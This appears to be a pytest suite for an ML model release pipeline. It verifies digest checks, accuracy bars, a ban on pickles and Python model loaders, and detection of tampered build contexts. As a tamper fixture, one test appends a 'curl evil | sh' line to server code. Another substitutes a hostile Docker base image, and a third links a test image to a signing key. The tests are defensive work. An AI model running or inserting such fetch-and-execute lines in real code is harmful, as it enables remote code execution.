"""The release zone (issue 20): it loads no Python model, builds only from what it owns, takes
the model in as bytes checked against the digests recorded at training, and measures what it
ships (before the build with LiteRT, and again inside the server with the smoke test),
refusing below the bar whatever was reported. The Docker task around it:
test_release_docker_task.py."""

from __future__ import annotations

import ast
import json
import os
import shutil
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest

from rice_mlops.core.staged_artifacts import (
    ReleaseInputError,
    manifest_digests,
    recorded_digests,
)
from rice_mlops.release import image as image_module
from rice_mlops.release.intake import BelowBar, measure, take_model_bytes
from tests.helpers.release_context import CLASSES, no_wheels, prepare

REPO = Path(__file__).resolve().parents[2]


@pytest.fixture(scope="module")
def context(trained_dir, digests, dataset, signing_key, tmp_path_factory):
    mp = pytest.MonkeyPatch()
    mp.setattr(image_module, "vendor_wheels", no_wheels)
    try:
        return prepare(trained_dir, tmp_path_factory.mktemp("release") / "image", digests,
                       dataset, signing_key)
    finally:
        mp.undo()


def test_a_planted_loader_module_or_pickle_never_runs_in_the_release_zone(
        trained_dir, digests, dataset, signing_key, tmp_path):
    """A fresh interpreter prepares the context from a directory holding an MLmodel with a
    loader_module and code/, and a pickle: neither runs, MLflow is never imported, and none of
    those files enters the context."""
    script = textwrap.dedent(f"""
        import json, sys
        from pathlib import Path
        sys.path.insert(0, {str(REPO)!r})
        from rice_mlops.release import image
        from tests.helpers.release_context import no_wheels, prepare
        image.vendor_wheels = no_wheels
        out = prepare(Path({str(trained_dir)!r}), Path({str(tmp_path / "image")!r}),
                      json.loads({json.dumps(json.dumps(digests))}), Path({str(dataset)!r}),
                      Path({str(signing_key)!r}))
        heavy = sorted(m for m in sys.modules if m.split(".")[0] in
                       ("mlflow", "cloudpickle", "tensorflow", "keras"))
        print(json.dumps({{"heavy": heavy}}))
        """)
    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True,
                          timeout=300, cwd=REPO,
                          env={**os.environ, "PYTHONPATH": str(REPO / "include")})
    assert done.returncode == 0, done.stderr[-3000:]
    assert json.loads(done.stdout.strip().splitlines()[-1])["heavy"] == []
    assert not (trained_dir.parent / "PLANTED-CODE-RAN").exists(), \
        "release zone broken: planted model code ran next to the Docker socket"
    model = tmp_path / "image" / "model"
    assert sorted(p.name for p in model.iterdir()) == [
        "MODEL_CARD.md", "labels.json", "metadata.json", "model.sig.json", "model.tflite"]
    assert not any(p.name in ("MLmodel", "code", "data") for p in (tmp_path / "image").rglob("*"))


def test_no_python_model_loader_on_the_docker_queue_code_path():
    """Static guard: the modules the Docker worker runs for a release never name a Python
    model loader (pyfunc, pickle, cloudpickle, load_model)."""
    modules = [*(p.relative_to(REPO / "include" / "rice_mlops").as_posix()
                 for p in (REPO / "include" / "rice_mlops" / "release").rglob("*.py")),
               "stages/docker_tasks.py", "serving/smoke.py", "serving/inference.py",
               "stages/release.py", "stages/serving.py"]
    assert "release/intake.py" in modules and "release/image.py" in modules
    for name in modules:
        tree = ast.parse((REPO / "include" / "rice_mlops" / name).read_text())
        names = {node.attr for node in ast.walk(tree) if isinstance(node, ast.Attribute)}
        names |= {alias.name for node in ast.walk(tree)
                  if isinstance(node, ast.Import | ast.ImportFrom) for alias in node.names}
        names |= {node.module or "" for node in ast.walk(tree)
                  if isinstance(node, ast.ImportFrom)}
        assert not names & {"pyfunc", "pickle", "cloudpickle", "load_model", "mlflow"}, name


def test_model_bytes_must_be_what_training_recorded(trained_dir, digests, tmp_path):
    assert take_model_bytes(trained_dir, digests, tmp_path / "ok") == CLASSES
    assert sorted(p.name for p in (tmp_path / "ok").iterdir()) == ["labels.json",
                                                                    "model.tflite"]
    other = dict(digests, **{"tflite/model.tflite": "0" * 64})
    with pytest.raises(ReleaseInputError, match="recorded at training"):
        take_model_bytes(trained_dir, other, tmp_path / "tampered")
    swapped = tmp_path / "swapped"
    shutil.copytree(trained_dir, swapped)
    (swapped / "labels.json").write_text(json.dumps({"classes": CLASSES[::-1]}))
    with pytest.raises(ReleaseInputError, match="labels.json has sha256"):
        take_model_bytes(swapped, digests, tmp_path / "swapped-out")
    linked = tmp_path / "linked"
    linked.mkdir()
    (linked / "model.tflite").symlink_to(trained_dir / "model.tflite")
    shutil.copy(trained_dir / "labels.json", linked)
    with pytest.raises(ReleaseInputError, match="not a regular file"):
        take_model_bytes(linked, digests, tmp_path / "linked-out")


def test_digests_come_from_the_train_task_and_are_well_formed():
    good = {"tflite/model.tflite": "a" * 64, "model_meta/labels.json": "b" * 64}
    assert recorded_digests({"artifact_sha256": good}) == good
    with pytest.raises(ReleaseInputError, match="recorded no artifact digests"):
        recorded_digests({"metrics": {"test_accuracy": 0.99}})
    with pytest.raises(ReleaseInputError, match="not 64"):
        recorded_digests({"artifact_sha256": {**good, "tflite/model.tflite": "../x"}})
    text = "".join(f"{d}  {a}\n" for a, d in good.items()) + f"{'c' * 64}  result.json\n"
    assert recorded_digests({"artifact_sha256": manifest_digests(text)}) == good


def test_the_release_zone_refuses_below_the_bar_before_anything_is_built(
        trained_dir, digests, dataset, signing_key, tmp_path, monkeypatch):
    monkeypatch.setattr(image_module, "vendor_wheels", no_wheels)
    out = tmp_path / "image"
    with pytest.raises(BelowBar, match="release zone measured"):
        prepare(trained_dir, out, digests, dataset, signing_key, bar=0.99)
    assert not out.exists() and not list(tmp_path.glob(".image.partial-*"))


def test_the_measurement_names_every_rule_it_breaks():
    true = ["A"] * 10 + ["B"] * 10
    served = ["A"] * 10 + ["A"] * 3 + ["B"] * 7
    result = measure(true, served, ["A", "B"], min_test_accuracy=0.9, min_class_recall=0.8)
    assert result.accuracy == 0.85 and result.recall == {"A": 1.0, "B": 0.7}
    assert not result.passed and len(result.refusals) == 2


def test_context_carries_the_release_measurement_and_only_owned_code(context, digests):
    from rice_mlops.release.image import verify_owned

    metadata = json.loads((context / "model" / "metadata.json").read_text())
    measured = metadata["release_measurement"]
    expected = json.loads((context / "smoke" / "expected.json").read_text())
    assert measured == expected["release_measurement"]
    assert measured["images"] == len(expected["images"]) > 0
    assert {item["label"] for item in expected["images"]} == set(CLASSES)
    assert len(expected["latency_images"]) == 2 * len(CLASSES)
    assert "Measured by the release zone" in (context / "model" / "MODEL_CARD.md").read_text()
    assert expected["tflite_sha256"] == digests["tflite/model.tflite"]
    assert not (context / "push.sh").exists()  # the push step is the worker's own
    verify_owned(context)


@pytest.mark.parametrize("tamper", ["server", "extra", "dockerfile", "dockerignore", "missing"])
def test_a_context_whose_code_is_not_the_installed_package_is_not_built(context, tmp_path,
                                                                        tamper):
    from rice_mlops.release.image import NotOwned, verify_owned

    copy = tmp_path / "image"
    shutil.copytree(context, copy)
    app = copy / "app" / "rice_mlops"
    if tamper == "server":
        with (app / "serving" / "app.py").open("a") as handle:
            handle.write("\nimport os; os.system('curl evil | sh')\n")
    elif tamper == "extra":
        (app / "sitecustomize.py").write_text("import os\n")
    elif tamper == "dockerfile":
        (copy / "Dockerfile").write_text("FROM evil\n")
    elif tamper == "dockerignore":
        (copy / ".dockerignore").write_text("smoke\n")
    else:
        (app / "serving" / "decode.py").unlink()
    with pytest.raises(NotOwned):
        verify_owned(copy)


def _smoke(context, monkeypatch, bar, floor, port):
    from rice_mlops.serving import smoke

    monkeypatch.setenv("RICE_MODEL_DIR", str(context / "model"))
    monkeypatch.setenv("RICE_MODEL_PUBLIC_KEY", str(context / "evidence" / "model-signing.pub"))
    return smoke.main(["--smoke-dir", str(context / "smoke"), "--port", str(port),
                       "--min-test-accuracy", str(bar), "--min-class-recall", str(floor)])


def test_the_smoke_test_measures_the_served_answers_and_refuses_below_the_bar(
        context, monkeypatch, capsys):
    """The server the image runs, on the context's own model: the smoke test measures the
    answers against the true classes, reproduces the release zone's figure, and refuses a bar
    it does not reach, whatever expected.json or XCom say."""
    from rice_mlops.serving.smoke import parse_measurement
    from tests.helpers.ports import free_port

    measured = json.loads((context / "model" / "metadata.json").read_text())[
        "release_measurement"]
    assert _smoke(context, monkeypatch, 0.0, 0.0, free_port()) == 0
    out = capsys.readouterr().out
    result = parse_measurement(out)
    assert result["accuracy"] == measured["accuracy"] and result["passed"]
    assert result["recall"] == measured["recall"]
    # A smoke set that claims a perfect model changes nothing: the labels are the truth.
    bar = min(1.0, measured["accuracy"] + 0.01)
    assert _smoke(context, monkeypatch, bar, 0.0, free_port()) == 1
    out = capsys.readouterr().out
    assert "smoke: REFUSED below the bar" in out
    assert not parse_measurement(out)["passed"]


def test_the_smoke_test_needs_a_bar():
    from rice_mlops.serving import smoke

    with pytest.raises(SystemExit):
        smoke.main(["--smoke-dir", "/nonexistent"])
    with pytest.raises(SystemExit):
        smoke.main(["--smoke-dir", "/x", "--min-test-accuracy", "1.5",
                    "--min-class-recall", "0"])


def test_the_smoke_set_refuses_links_and_pixel_bombs(dataset, trained_dir, tmp_path):
    """A test image linked to a file of the release worker (its signing key) never enters the
    smoke set, and an image too large to decode is refused before decoding."""
    from PIL import Image

    from rice_mlops.release.intake import litert_probabilities, smoke_set

    copy = tmp_path / "data"
    shutil.copytree(dataset, copy)
    victim = sorted((copy / "test" / CLASSES[0]).iterdir())[0]
    secret = tmp_path / "signing.key"
    secret.write_text("PRIVATE")
    victim.unlink()
    victim.symlink_to(secret)
    with pytest.raises(ReleaseInputError, match="links"):
        smoke_set(copy, CLASSES)
    bomb = tmp_path / "bomb.png"
    Image.new("L", (5000, 5000)).save(bomb)
    with pytest.raises(ReleaseInputError, match="pixels"):
        litert_probabilities(trained_dir / "model.tflite", [bomb])
